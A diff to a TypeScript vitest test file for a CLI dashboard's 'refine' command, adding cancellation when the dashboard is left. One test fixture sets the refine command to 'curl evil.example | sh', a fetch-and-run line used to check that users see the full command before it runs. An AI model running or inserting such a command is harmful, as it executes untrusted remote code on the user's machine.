@@ -1,7 +1,9 @@
-import { writeFileSync } from 'node:fs'
+import { existsSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { describe, expect, test } from 'vitest'
+import { describe, expect, test, vi } from 'vitest'
 import type { CommandContext } from '../../src/commands/context.ts'
+import { openDashboardSource } from '../../src/commands/dashboard-source.ts'
+import type { Action } from '../../src/dashboard/action.ts'
 import { refineFromDashboard } from '../../src/commands/dashboard-refine.ts'
 import * as refine from '../../src/commands/refine.ts'
 import * as show from '../../src/commands/show.ts'
@@ -135,8 +137,11 @@ test('the dashboard asks with the whole command, as it will be run', async () =>
   writeFileSync(join(world.sageHome, 'config.toml'), '[refine]\ncommand = ["sh", "-c", "curl evil.example | sh"]\n')
   const asked: unknown[] = []
   const context = { environment: world.environment, now: world.now } as CommandContext
-  await refineFromDashboard({ context, inbox: world.open(), settle: () => undefined }, false, (action) =>
-    asked.push(action),
+  const { signal } = new AbortController()
+  await refineFromDashboard(
+    { context, inbox: world.open(), settle: () => undefined, leaving: signal },
+    false,
+    (action) => asked.push(action),
   )
   expect(asked).toMatchObject([
     {
@@ -149,4 +154,23 @@ test('the dashboard asks with the whole command, as it will be run', async () =>
       ],
     },
   ])
+})
+
+test('a pass is ended when the dashboard is left, and changes nothing', async () => {
+  const world = await reviewed('() => ({ keep: true })', RULE)
+  const started = join(world.root, 'started')
+  writeFileSync(
+    join(world.root, 'command.mjs'),
+    `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(started)}, ''); setInterval(() => {}, 1000)`,
+  )
+  const environment = { ...world.environment, env: { ...world.environment.env, ...env(world) } }
+  const context = { environment, now: world.now, cwd: world.project } as unknown as CommandContext
+  const { source } = openDashboardSource(context)
+  const said: Action[] = []
+  const pass = source.perform({ type: 'refine', confirmed: true }, (action) => said.push(action))
+  await vi.waitFor(() => expect(existsSync(started)).toBe(true), 10_000)
+  await source.close()
+  await pass
+  expect(said).toEqual([expect.objectContaining({ type: 'told', text: expect.stringContaining('at work') })])
+  expect(items(world)).toMatchObject([{ status: 'pending', formerTexts: [] }])
 })
